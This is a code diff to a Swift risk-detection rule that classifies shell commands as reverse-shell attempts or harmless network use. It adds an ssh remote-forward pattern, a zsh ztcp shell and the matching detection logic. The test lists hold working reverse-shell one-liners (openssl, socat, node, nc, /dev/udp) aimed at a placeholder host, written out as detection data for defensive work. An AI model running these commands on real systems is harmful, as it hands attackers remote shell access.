@@ -24,11 +24,13 @@ extension RiskRule {
       "openssl s_client -connect h:80 | ‹sh›", "sh -i 2>&1 | ‹openssl s_client -connect h:80›",
       "socat exec:bash,pty tcp:h:80",
       "node -e 'require(\"net\").connect(80,\"h\").pipe(require(\"child_process\").spawn(\"sh\").stdin)'",
-      "bash -c '‹sh -i >& /dev/udp/h/53 0>&1›'", "nc h 80 -c sh",
+      "bash -c '‹sh -i >& /dev/udp/h/53 0>&1›'", "nc h 80 -c sh", "ssh -N -R 2222:localhost:22 u@h",
+      "‹ztcp h 80›; zsh <&3 >&3",
     ],
     harmless: [
       "nc -l 80", "nc -zv h 22", "socat - TCP:h:80", "openssl s_client -connect h:443", "python3 -c 'import socket'",
-      "(echo > /dev/tcp/h/80) && echo open", "ssh h", "awk '{print}' f",
+      "(echo > /dev/tcp/h/80) && echo open", "ssh h", "ssh -R 8080:localhost:3000 h", "ssh -L 2222:localhost:22 h",
+      "awk '{print}' f",
       "awk 'BEGIN{s=\"/inet/tcp/0/h/80\";s|&getline;print}'", "php -r 'echo 1;'", "nc h 80 < f",
     ]
   ) { script in
@@ -51,6 +53,10 @@ extension RiskRule {
           ["telnet", "openssl"].contains($0.name ?? "") && $0.subcommand != "enc"
         }
     }
+    if name == "ztcp", script.invocations.count <= InvocationCollector.mostCompared {
+      return script.invocations.contains { shells.contains($0.name ?? "") && !$0.redirections.isEmpty }
+    }
+    if name == "ssh" || name == "autossh" { return invocation.value(of: "-R").map(opensLogin) == true }
     if listeners.contains(name) { return servesShell(invocation, name, script) }
     guard
       let code = ["-c", "-e", "-r"].lazy.compactMap({ invocation.value(of: $0) }).first
@@ -59,6 +65,11 @@ extension RiskRule {
     else { return false }
     if name.hasSuffix("awk"), CodeText.runsWhatComesIn(code) { return true }
     return CodeText.connectsAndRuns(code + (invocation.has("-rsocket") ? " socket" : ""))
+  }
+
+  /// `2222:localhost:22`: there one can log in here.
+  private static func opensLogin(_ forward: String) -> Bool {
+    [":localhost:22", ":127.0.0.1:22", ":[::1]:22"].contains(where: forward.hasSuffix)
   }
 
   private static func servesShell(_ invocation: Invocation, _ name: String, _ script: InvocationCollector) -> Bool {
